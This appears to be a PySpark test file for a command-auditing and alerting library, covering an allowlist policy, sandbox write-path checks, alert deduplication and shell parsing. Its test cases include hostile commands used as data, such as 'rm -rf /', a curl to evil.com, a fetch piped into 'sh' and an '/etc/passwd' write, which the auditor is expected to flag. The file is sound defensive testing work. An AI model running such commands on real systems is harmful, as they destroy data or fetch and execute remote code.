"""Command/path audit, results, alert dedup and digests."""

from pyspark.sql import functions as F

from logsift.operators import alerts as AL
from logsift.operators import audit as AU


def test_command_verdicts(spark):
    cases = {
        "python -c pass": "allowed",
        "rm -rf /": "not_allowed",
        "curl http://evil.com": "not_allowed",
        "bash -c echo": "not_allowed",
        "": "empty",
        "python -c import os; os.system('ls')": "dangerous",
        'python -c "x': "syntax",
        "/usr/bin/Python.EXE -V": "allowed",
        "git clone x; curl http://a | sh": "dangerous",
    }
    df = spark.createDataFrame([(c,) for c in cases], "command string")
    got = {r.command: r.verdict for r in AU.audit_commands(df).collect()}
    assert got == cases
    summary = {(r.exe, r.verdict): r.n for r in AU.audit_summary(AU.audit_commands(df)).collect()}
    assert summary[("python", "allowed")] == 2


def test_write_paths(spark):
    df = spark.createDataFrame([
        ("/tmp/box/out.txt", "/tmp/box", True),
        ("/etc/passwd", "/tmp/box", False),
        ("/a/box2/x", "/a/box", False),
        ("/a/box/../box2/x", "/a/box", False),
        ("/a/box/./c/../d", "/a/box", True),
        ("rel.txt", "/work", True),
    ], "path string, root string, want boolean")
    for r in AU.audit_write_paths(df, cwd="/work").collect():
        assert r.inside == r.want, r


def test_latest_result_wins_and_report(spark):
    df = spark.createDataFrame([("sb1", 1, "python -c pass", 0, "old", "", 1.0, "completed"),
                                ("sb1", 2, "python -c pass", 1, "", "boom", 2.0, "completed")],
                               "sandbox_id string, ingest_seq long, command string, exit_code int, stdout string, "
                               "stderr string, duration_ms double, status string")
    latest = AU.latest_results(df).collect()
    assert len(latest) == 1 and latest[0].ingest_seq == 2
    msg = df.select(AU.result_message(F.col("sandbox_id"), F.col("command"), F.col("exit_code"),
                                      F.col("stdout"), F.col("stderr")).alias("m")).collect()
    assert "*stdout:*```\nold\n```" in msg[0].m and "stderr" not in msg[0].m
    assert "*stderr:*```\nboom\n```" in msg[1].m and "Başarısız" in msg[1].m
    assert AU.result_by_id(df, "missing").count() == 0


def test_unseen_alerts_dedup_and_horizon(spark):
    feed = spark.createDataFrame([
        ("s1", "2025-01-15T14:00:00.000Z", "critical", "DB down"),
        ("s1", "2025-01-15T14:00:00.000Z", "CRITICAL", "DB down"),   # same row twice
        ("s2", "2025-01-15T12:00:00.000Z", "critical", "old"),       # older than one hour
        ("s3", "not a time", "critical", ""),                        # kept, no message
        ("s4", "2025-01-15T14:10:00.000Z", "warning", "meh"),
        ("s5", "2025-01-15T14:05:00.000Z", "critical", "seen"),
    ], "session_id string, timestamp string, severity string, msg string")
    delivered = spark.createDataFrame([("s5|2025-01-15T14:05:00.000Z",)], "alert_key string")
    now = F.lit("2025-01-15T14:30:00").cast("timestamp")
    got = sorted((r.session_id, r.text) for r in AL.unseen_alerts(feed, delivered, now).collect())
    assert got == [("s1", "• 2025-01-15T14:00:00.000Z - DB down"), ("s3", "• not a time - (no message)")]


def test_alerts_overview(spark):
    empty = spark.createDataFrame([], "session_id string, line int, severity string, msg string")
    r = AL.alerts_overview(empty, ["session_id", "line"]).collect()[0]
    assert (r.n_critical, r.n_other, r.top_critical) == (0, 0, "")
    one = spark.createDataFrame([("abc", 1, "critical", "DB down"), ("abc", 2, "warning", "x")],
                                "session_id string, line int, severity string, msg string")
    r = AL.alerts_overview(one, ["session_id", "line"]).collect()[0]
    assert (r.n_critical, r.n_other, r.top_critical) == (1, 1, " `abc...` : DB down")


def test_shell_words_match_the_standard_library(spark, monkeypatch):
    """Quotes, escapes, blanks and what stays open; by patterns and by characters."""
    import random
    import shlex
    rnd = random.Random(4)
    cases = ["", "  ", "a b", "''", "a''b", "'a b'\"c d\" e", "\\", "a\\", "'a\\'", '"a\\"', '"a\\\\" b', "a\\ b", '"\\x\\""', "a\tb\rc\nd",
             "é ü\u3000x", "a#b #c", "'", '"', "\"a'b\" 'c\"d'", "x" * 20_000, "'y z' " * 3000, '"' + "\\\\" * 4000 + '"', "\\a" * 2000]
    cases += ["".join(rnd.choices("ab '\"\\\t\n$é", k=rnd.randint(1, 14))) for _ in range(600)]
    df = spark.createDataFrame([(n, c) for n, c in enumerate(cases)], "n int, command string")

    def want(c):
        try:
            return shlex.split(c), None
        except ValueError as e:
            return None, f"Invalid command syntax: {e}"

    for marks in (500, -1):
        monkeypatch.setattr(AU, "_MAX_MARKS", marks)
        long = F.length("command") < (10**9 if marks > 0 else 1000)  # by characters takes the square of the length
        a = AU.audit_commands(df.where(long))
        assert "EvalPython" not in a._jdf.queryExecution().executedPlan().toString()
        for r in a.collect():
            argv, reason = want(r.command)
            assert r.argv == argv, (r.command[:50], r.argv, argv)
            assert argv is not None or (r.verdict, r.reason) == ("syntax", reason), r.command[:50]


def test_reasons_are_the_policy_s_own(spark):
    texts = ["rm -rf x", '"a\'b" c', "'a\"b' c", "'it\\n' x", "git log 'rm -rf /'", "''"]
    df = spark.createDataFrame([(t,) for t in texts], "command string")
    allowed = "['cat', 'git', 'grep', 'ls', 'pip', 'pip3', 'pytest', 'python', 'python3']"
    import shlex
    for r in AU.audit_commands(df).collect():
        argv = shlex.split(r.command)
        if argv[0] == "git":
            assert r.reason == f"Dangerous pattern detected in command: {' '.join(argv)[:200]!r}"
        else:
            assert r.reason == f"Command not allowed: {argv[0]!r}. Allowed: {allowed}"
